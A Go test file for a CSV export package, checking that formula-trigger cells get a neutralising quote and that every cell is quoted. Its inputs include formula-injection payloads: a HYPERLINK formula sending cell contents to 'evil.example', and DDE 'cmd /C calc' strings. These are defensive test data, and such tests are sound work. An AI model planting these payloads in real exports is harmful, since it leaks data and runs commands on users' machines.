package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestNeutralise(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"ws01.corp.example", "ws01.corp.example"},
		{"Nguyễn Văn A", "Nguyễn Văn A"},
		{"=1+2", "'=1+2"},
		{`=HYPERLINK("http://evil.example/?"&A1,"bấm")`, `'=HYPERLINK("http://evil.example/?"&A1,"bấm")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"}, // only a leading trigger counts
		{" =1", " =1"}, // a leading space is text to every spreadsheet
		{"'=1", "'=1"}, // already neutral
		{"2026-01-02", "2026-01-02"},
	} {
		if got := Neutralise(c.in); got != c.want {
			t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCSVWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	rows := [][]string{
		{"host", "title", "n"},
		{"=cmd|' /C calc'!A0", "a,b \"quoted\"", "-1"},
		{"line\nbreak", "@x", ""},
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	// Every cell is quoted (OWASP), so a separator or quote in a cell can
	// never start a new cell.
	want := "\"host\",\"title\",\"n\"\r\n" +
		"\"'=cmd|' /C calc'!A0\",\"a,b \"\"quoted\"\"\",\"'-1\"\r\n" +
		"\"line\nbreak\",\"'@x\",\"\"\r\n"
	if buf.String() != want {
		t.Errorf("output:\n%q\nwant\n%q", buf.String(), want)
	}
	// It stays CSV any reader accepts, cells intact but for the quote.
	got, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got[1][0] != "'=cmd|' /C calc'!A0" || got[1][1] != `a,b "quoted"` || got[2][0] != "line\nbreak" {
		t.Errorf("round trip: %q", got)
	}
}

func TestCSVWriterError(t *testing.T) {
	w := NewCSV(failWriter{})
	w.Write([]string{"a"})
	if err := w.Flush(); err == nil {
		t.Error("Flush hid the write error")
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errFail }

var errFail = &csv.ParseError{Err: csv.ErrFieldCount}
